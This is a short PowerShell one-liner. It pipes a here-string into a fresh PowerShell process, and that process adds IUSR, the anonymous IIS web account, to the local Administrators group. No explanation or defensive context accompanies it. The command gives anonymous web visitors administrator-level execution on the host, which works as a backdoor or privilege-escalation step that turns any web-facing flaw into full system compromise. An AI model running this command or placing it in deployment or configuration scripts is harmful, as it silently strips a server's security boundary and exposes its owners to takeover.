@'
$group = 'Administrators'
Add-LocalGroupMember $group IUSR
'@ | powershell -NoProfile -Command -
